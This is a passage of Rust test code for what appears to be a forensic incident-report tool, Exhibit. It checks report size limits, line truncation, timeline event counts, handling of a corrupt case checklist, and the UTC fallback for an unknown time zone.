        generated_at: "2026-12-02T15:00:00Z",
    };
    let html = rep::render_html(&input);
    let md = rep::render_markdown(&input);
    assert!(html.len() < 2 << 20, "{} bytes of HTML", html.len());
    assert!(md.len() < 2 << 20, "{} bytes of Markdown", md.len());
    assert!(
        html.contains("1975 more in"),
        "the cut evidence lines are counted"
    );
    assert!(!html.contains(&"A".repeat(601)), "a long line is cut");
    assert!(html.contains(&format!("{}…", "A".repeat(600))));
    assert!(
        html.contains("19700 more not shown"),
        "the cut key events are counted"
    );
    let doc = Html::parse_document(&html);
    let recon: u64 = doc
        .select(&sel("#timeline svg rect"))
        .map(|r| {
            r.text()
                .collect::<String>()
                .rsplit(": ")
                .next()
                .unwrap()
                .parse::<u64>()
                .unwrap()
        })
        .sum();
    assert_eq!(recon, 20_000, "the chart counts every key event");
    // Without a case: UTC, the default checklist, all open.
    let cl: String = doc
        .select(&sel("#checklist"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert!(cl.contains("0 of 10 steps done"), "{cl}");
    assert!(html.contains("no case folder given"));
}

/// `--case` today: a corrupt checklist stops the report with an error
/// naming the file; a good case folder is read and the report then stops at
/// the investigation (until it lands: see the test above).
#[test]
fn the_cli_reads_the_case_folder_and_its_checklist() {
    let t = tempfile::tempdir().unwrap();
    let case_dir = t.path().join("case");
    exhibit::case::create(&case_dir, case()).unwrap();
    let src = t.path().join("src");
    write(&src, "etc/hostname", b"web01\n");
    let out = t.path().join("r.md");
    std::fs::write(case_dir.join("checklist.json"), "{not json").unwrap();
    let run = |format: &str| {
        exhibit()
            .arg("report")
            .arg(&src)
            .arg("--case")
            .arg(&case_dir)
            .args(["--format", format, "-q", "-o"])
            .arg(&out)
            .output()
            .unwrap()
    };
    let bad = run("md");
    assert_eq!(bad.status.code(), Some(2));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(
        err.contains("cannot read the case's checklist") && err.contains("checklist.json"),
        "{err}"
    );

    checklist().save(&case_dir).unwrap();
    let good = run("md");
    let err = String::from_utf8_lossy(&good.stderr);
    if good.status.success() {
        let md = std::fs::read_to_string(&out).unwrap();
        assert!(
            md.contains("Customer database leak"),
            "the case heads the report"
        );
        assert!(
            md.contains("uploads locked"),
            "the case's checklist is printed"
        );
    } else {
        assert!(!err.contains("case"), "the case folder was read: {err}");
        assert!(err.contains("cannot investigate the evidence"), "{err}");
    }
}

/// A case whose time zone Exhibit does not know: the header says so and
/// every time is shown in UTC, marked as such.
#[test]
fn an_unknown_case_time_zone_is_named_and_times_fall_back_to_utc() {
    let inv = investigation();
    let mut c = case();
    c.timezone = "Mars/Olympus_Mons".into();
    let input = ReportInput {
        investigation: &inv,
        evidence_status: &[],
        case: Some(&c),
        checklist: None,
        generated_at: "2026-12-02T15:00:00Z",
    };
    let doc = Html::parse_document(&rep::render_html(&input));
    let header: String = doc.select(&sel("header")).next().unwrap().text().collect();
    assert!(
        header.contains("Mars/Olympus_Mons is not a known time zone: times are shown in UTC"),
        "{header}"
    );
    let how: String = doc.select(&sel("#a-how")).next().unwrap().text().collect();
    assert!(how.contains("2026-11-20 03:14:07 UTC"), "{how}");
}
